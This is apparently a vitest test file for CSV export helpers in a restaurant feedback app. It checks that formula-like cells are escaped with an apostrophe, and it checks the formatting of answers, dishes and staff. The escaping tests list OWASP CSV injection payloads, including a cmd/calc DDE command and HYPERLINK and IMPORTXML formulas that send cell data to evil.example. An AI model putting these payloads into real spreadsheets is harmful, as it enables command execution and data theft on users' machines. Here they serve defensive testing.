import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { answerCell, dishesCell, safeCell, staffCells } from './export-cells';
import type { AnswerView, DishView } from './response-view';

// The OWASP CSV injection cheat sheet's payloads, and others of the same starts.
const OWASP = [
  '=1+2',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"Click")',
  '+1+1',
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+2',
  '\r=1+2',
  '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
];

describe('O8.1 a cell that could run as a formula is escaped', () => {
  it.each(OWASP)('%j starts with an apostrophe', (payload) => {
    expect(safeCell(payload)).toBe(`'${payload}`);
  });

  it.each(['Lovely evening', '3 stars', "'quoted", ' =spaced', ''])('%j is left as written', (text) => {
    expect(safeCell(text)).toBe(text);
  });

  it('never leaves a formula start, and only ever adds one apostrophe', () => {
    fc.assert(
      fc.property(fc.string(), (text) => {
        const cell = safeCell(text);
        expect(/^[=+\-@\t\r]/.test(cell)).toBe(false);
        expect(cell === text || cell === `'${text}`).toBe(true);
      }),
    );
  });
});

const view = (over: Partial<AnswerView>): AnswerView => ({
  questionId: 1,
  title: 'Q',
  kind: 'text',
  drilldownOf: null,
  followUpOf: null,
  notApplicable: false,
  stars: null,
  choices: [],
  yes: null,
  text: null,
  positive: null,
  negative: null,
  services: [],
  ...over,
});

describe('O8.3 one answer, one cell', () => {
  it.each([
    [view({ stars: { value: 4, of: 5 } }), '4/5'],
    [view({ choices: ['Terrace', 'Bar'] }), 'Terrace; Bar'],
    [view({ yes: false, text: 'Too loud' }), 'No: Too loud'],
    [view({ yes: true }), 'Yes'],
    [view({ positive: 'Staff', negative: 'Wait' }), '+ Staff; - Wait'],
    [view({ text: 'Lovely evening' }), 'Lovely evening'],
    [view({ services: [{ name: 'Bar', answers: [{ label: 'Speed', value: '4' }] }] }), 'Bar: Speed 4'],
    [view({ notApplicable: true, text: 'ignored' }), 'n/a'],
    [view({}), ''],
  ])('%o is %j', (answer, cell) => {
    expect(answerCell(answer)).toBe(cell);
  });
});

const dish = (over: Partial<DishView>): DishView => ({
  questionId: 1,
  ref: 'P1',
  name: 'Chips',
  rating: 3,
  ratingLabel: null,
  reasons: [],
  comment: null,
  otherReason: null,
  ...over,
});

describe('O8.4 the dishes rated, one cell', () => {
  it.each([
    [[dish({})], 'Chips: good'],
    [
      [dish({ rating: 1, reasons: ['Cold'], otherReason: 'Soggy', comment: 'Sad' })],
      'Chips: bad (Cold, Soggy) "Sad"',
    ],
    [
      [dish({ name: null }), dish({ ref: 'P2', name: 'Tea', rating: 2, ratingLabel: 'OK' })],
      'P1: good | Tea: OK',
    ],
    [[], ''],
  ])('%o is %j', (dishes, cell) => {
    expect(dishesCell(dishes)).toBe(cell);
  });
});

describe('O8.5 the staff thanked', () => {
  it('names, tags and text; empty cells without anyone', () => {
    expect(staffCells({ id: 1, name: 'Sam', tags: ['Friendly', 'Fast'], text: 'Great' })).toEqual({
      name: 'Sam',
      tags: 'Friendly, Fast',
      text: 'Great',
    });
    expect(staffCells(null)).toEqual({ name: '', tags: '', text: '' });
  });
});
